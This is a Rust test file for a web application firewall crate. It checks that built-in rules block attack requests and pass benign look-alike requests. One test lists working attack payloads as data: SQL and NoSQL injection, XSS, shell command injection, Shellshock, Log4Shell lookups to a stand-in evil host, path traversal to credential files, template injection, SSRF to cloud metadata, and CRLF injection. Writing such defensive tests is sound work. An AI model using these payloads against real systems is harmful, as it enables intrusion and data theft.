//! The rules that the crate carries: attacks are refused, and what only looks like them passes.

use std::sync::Arc;

use bartizan_waf::{Cause, Peer, RequestHead, RuleSet, Transaction, Verdict};

struct Tried {
    verdict: Verdict,
    matched: Vec<u32>,
}

fn try_out(target: &str, fields: &[(&str, &str)], body: &str) -> Tried {
    let rules = Arc::new(RuleSet::builtin().unwrap());
    let mut transaction = Transaction::new(rules, None);
    let fields: Vec<(&[u8], &[u8])> =
        fields.iter().map(|(name, value)| (name.as_bytes(), value.as_bytes())).collect();
    let head = RequestHead {
        peer: Peer {
            client: ([192, 0, 2, 1], 40_000).into(),
            server: ([192, 0, 2, 2], 443).into(),
        },
        method: if body.is_empty() { b"GET" } else { b"POST" },
        target: target.as_bytes(),
        protocol: b"HTTP/1.1",
        fields: &fields,
        id: b"1",
        now: 1_764_000_000,
    };
    let mut verdict = transaction.request_head(&head);
    if verdict == Verdict::Pass {
        verdict = transaction.request_body(body.as_bytes(), false);
    }
    transaction.finish();
    Tried { verdict, matched: transaction.matches().iter().map(|found| found.id).collect() }
}

const JSON: &[(&str, &str)] = &[("content-type", "application/json")];

#[test]
fn attacks_are_refused_by_the_rule_that_is_meant_for_them() {
    for (target, fields, body, rule) in [
        ("/a?id=1'%20or%20'1'='1", &[][..], "", 7_001_001),
        ("/a?id=1+union+select+null,version()--", &[], "", 7_001_001),
        ("/a?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], "", 7_002_001),
        ("/a?q=%22%20onmouseover=alert(1)%20x=%22", &[], "", 7_002_001),
        ("/a?host=example.com;cat+/etc/hosts", &[], "", 7_003_001),
        ("/a?host=$(whoami)", &[], "", 7_003_001),
        ("/a", &[("x-api", "() { :;}; echo 1")], "", 7_003_002),
        ("/a", &[("user-agent", "${jndi:ldap://evil.example/a}")], "", 7_003_003),
        ("/a", &[("x", "${${lower:j}ndi:rmi://evil.example/a}")], "", 7_003_003),
        ("/a?file=../../../etc/passwd", &[], "", 7_004_001),
        ("/a?file=..%5C..%5Cwindows%5Cwin.ini", &[], "", 7_004_001),
        ("/a?file=/etc/passwd", &[], "", 7_004_002),
        ("/a?name={{7*7}}", &[], "", 7_005_001),
        ("/a?name={{''.__class__.__mro__}}", &[], "", 7_005_001),
        ("/a?__proto__[admin]=1", &[], "", 7_005_002),
        ("/login", JSON, r#"{"user": "a", "password": {"$ne": ""}}"#, 7_006_001),
        ("/login?user[$gt]=", &[], "", 7_006_001),
        ("/fetch?url=http://169.254.169.254/latest/meta-data", &[], "", 7_007_001),
        ("/fetch?url=http://127.0.0.1:8080/", &[], "", 7_007_001),
        ("/fetch?url=http://[::1]/", &[], "", 7_007_001),
        ("/fetch?url=gopher://db:3306/x", &[], "", 7_007_002),
        ("/a?next=/%0d%0aset-cookie:%20a=b", &[], "", 7_008_001),
        ("/a", JSON, r#"{"a": "#, 7_000_010),
        ("/a", JSON, r#"{"q": "1' or '1'='1"}"#, 7_001_001),
        ("/a", &[("content-type", "text/json")], r#"{"q": "1' or '1'='1"}"#, 7_001_001),
        ("/a", &[("content-type", "text/plain")], r#" {"q": "1' or '1'='1"}"#, 7_000_013),
        ("/a", &[("content-type", "text/plain")], "<?xml version='1.0'?><a/>", 7_000_013),
        ("/a", &[], "[1]", 7_000_012),
    ] {
        let tried = try_out(target, fields, body);
        let refused =
            matches!(&tried.verdict, Verdict::Interrupt(i) if i.cause == Cause::Rule(rule));
        assert!(refused, "{target} {fields:?} {body}: {:?} by {:?}", tried.verdict, tried.matched);
    }
}

#[test]
fn what_only_looks_like_an_attack_passes() {
    for (target, fields, body) in [
        ("/orders/42?expand=items&sort=-date", &[][..], ""),
        ("/search?q=O'Brien", &[], ""),
        ("/search?q=rock+%26+roll", &[], ""),
        ("/search?q=select+a+gift+from+the+list", &[], ""),
        ("/search?q=AT%26T", &[], ""),
        ("/search?q=cats;+dogs", &[], ""),
        ("/a?filter=price%3E10", &[], ""),
        ("/a?when=2026-11-29T08:00:00%2B01:00", &[], ""),
        ("/a?id=6f1c0e3a-9a70-4c3e-8c58-0f7d1f1f8a11", &[], ""),
        ("/a?url=https://example.com/a/b?c=d", &[], ""),
        ("/a?price=$100", &[], ""),
        ("/a?path=docs/../readme.md", &[], ""),
        ("/a?text=3*4=12", &[], ""),
        ("/a", &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101")], ""),
        ("/a", &[("authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.e30.AAAA-_")], ""),
        ("/a", &[("content-type", "application/json; charset=\"UTF-8\"")], r#"{"a": 1}"#),
        ("/a", &[("content-type", "application/json;charset=utf8;v=1")], r#"{"a": 1}"#),
        ("/a", &[("content-type", "text/plain; charset = ISO-8859-1")], "caf\u{e9}"),
        (
            "/a",
            JSON,
            r#"{"name": "Anne-Marie", "note": "He said: \"no\"; then left.", "n": [1, 2.5]}"#,
        ),
        ("/a", JSON, r#"{"email": "a.b+c@example.com", "html": "a < b and c > d"}"#),
        ("/a", &[("content-type", "text/plain")], "Dear {name}, 1 < 2"),
        ("/a", &[("content-type", "application/graphql")], "{ user { id } }"),
        ("/a", &[("content-type", "application/octet-stream")], "{\u{1}\u{2}"),
        ("/a", JSON, r#"{"template": "Dear {{name}}, you owe ${amount}"}"#),
    ] {
        let tried = try_out(target, fields, body);
        assert_eq!(tried.verdict, Verdict::Pass, "{target} {body}: {:?}", tried.matched);
    }
}
